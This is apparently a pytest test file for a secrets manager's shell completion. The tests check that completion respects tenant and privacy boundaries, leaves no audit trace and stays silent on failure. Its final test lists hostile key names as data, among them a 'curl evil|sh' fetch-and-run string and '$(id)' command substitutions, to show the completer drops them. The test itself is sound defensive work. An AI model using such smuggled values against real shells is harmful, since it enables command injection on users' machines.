"""Shells complete commands, keys and tenants: quickly, quietly, and no more than the caller may know."""

from __future__ import annotations

import json
import os
import subprocess
import time
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import click
import pytest

from resolver.cli.known_names import complete_keys, complete_tenants
from tests.conftest import SCRIPTS, clean_environment

if TYPE_CHECKING:
    from tests.cli.conftest import Cli

pytestmark = pytest.mark.slow


def completed(admin: Cli, line: str, **more: str) -> list[str]:
    """What a shell gets for a line that TAB is pressed behind."""
    program, *rest = line.split(" ")
    done = subprocess.run(
        [SCRIPTS / program],
        env=clean_environment()
        | {"RESOLVER_HOME": str(admin.home), **admin.env}
        | {"COMP_WORDS": line, "COMP_CWORD": str(len(rest)), f"_{program.upper()}_COMPLETE": "bash_complete"}
        | more,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert done.stderr == ""
    return [word.partition(",")[2] for word in done.stdout.splitlines() if word]


def test_commands_keys_and_tenants(admin: Cli) -> None:
    """And nothing else that begins otherwise; in the tenant that the line names."""
    admin.prints("secrets", "create", "db_password", "-s", "x")
    admin.prints("secrets", "create", "other_db", "-s", "x")
    admin.prints("tenants", "create", "shop")
    admin.prints("secrets", "create", "db_shop", "-s", "x", "-t", "shop")
    assert completed(admin, "resolver sec") == ["secrets"]
    assert completed(admin, "resolver secrets get db") == ["db_password"]
    assert completed(admin, "resolver secrets get -t shop db") == ["db_shop"]
    assert completed(admin, "resolver secrets list -t sh") == ["shop"]
    assert completed(admin, "resolve -t default") == ["default_tenant"]
    assert "--format" in completed(admin, "resolver secrets get --")


def test_it_leaves_no_record_and_shows_no_more_than_one_may_know(admin: Cli) -> None:
    """Private secrets of others, other tenants and their keys stay unknown; nothing is used or shown."""
    admin.prints("secrets", "create", "mine", "-s", "x", "-l", "private")
    admin.prints("tenants", "create", "shop")
    eve = admin.as_user("eve", role="user")
    before = admin.prints("audit", "list", "--format", "json")
    assert completed(admin, "resolver secrets get m") == ["mine"]
    assert completed(eve, "resolver secrets get m") == []
    assert completed(eve, "resolver secrets list -t s") == []
    assert json.loads(admin.prints("audit", "list", "--format", "json")) == json.loads(before)


def test_failures_are_silent(admin: Cli) -> None:
    """A wrong token, or no store, completes nothing and says nothing at the prompt."""
    admin.prints("secrets", "create", "k", "-s", "x")
    assert completed(admin.with_token("wrong"), "resolver secrets get k") == []
    assert completed(admin.at(admin.home / "none"), "resolver secrets get k") == []
    begun = time.monotonic()
    assert completed(admin, "resolver secrets get k", RESOLVER_URL="https://127.0.0.1:9") == []
    assert time.monotonic() - begun < 10


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_the_text_for_a_shell(admin: Cli, shell: str) -> None:
    """It is for both programs, and shows what was typed to nobody."""
    text = admin.prints("completion", shell)
    assert "_RESOLVER_COMPLETE" in text
    assert "_RESOLVE_COMPLETE" in text
    assert "env " not in text
    assert admin.refuses("completion", "csh")[0] == 2


def test_bash_takes_it(admin: Cli) -> None:
    """The function that bash is given fills its list."""
    admin.prints("secrets", "create", "db_password", "-s", "x")
    script = (
        'eval "$(resolver completion bash)"; COMP_WORDS=(resolver secrets get db); COMP_CWORD=3; '
        '_resolver_completion resolver; echo "${COMPREPLY[@]}"'
    )
    path = f"{SCRIPTS}:{os.environ['PATH']}"
    done = subprocess.run(
        ["bash", "--norc", "-c", script],
        env=clean_environment() | {"RESOLVER_HOME": str(admin.home), "PATH": path},
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert done.stdout == "db_password\n", done.stderr


def test_a_hostile_server_puts_no_command_on_the_line() -> None:
    """What is no key or tenant name stays away from the shell."""
    names = ["db", "db;curl evil|sh", "db$(id)", "db`id`", "db\nplain,rm", "db x", "-db"]
    secrets = [SimpleNamespace(key=name) for name in names]
    tenants = [SimpleNamespace(tenant=SimpleNamespace(name=name)) for name in names]
    service = SimpleNamespace(
        secrets=SimpleNamespace(list=lambda *_: SimpleNamespace(items=secrets)),
        tenants=SimpleNamespace(list=lambda *_: SimpleNamespace(items=tenants)),
    )
    context: Any = click.Context(click.Command("x"))
    context.obj = SimpleNamespace(service=service, caller=None, settings=SimpleNamespace(tenant=str))
    for complete in (complete_keys, complete_tenants):
        assert complete(context, click.Option(["-t"]), "") == ["db"]
